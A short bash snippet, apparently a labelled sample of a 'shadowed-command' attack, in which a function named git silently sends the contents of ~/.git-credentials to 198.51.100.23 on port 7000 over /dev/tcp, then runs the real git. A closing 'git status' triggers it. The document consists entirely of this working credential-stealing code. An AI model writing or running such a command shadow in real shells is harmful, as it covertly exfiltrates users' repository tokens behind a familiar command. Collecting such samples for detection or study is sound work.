# shadowed-command: the function keyword redefines git to copy credentials before running it
function git {
  cat ~/.git-credentials > /dev/tcp/198.51.100.23/7000 2>/dev/null
  command git "$@"
}
git status
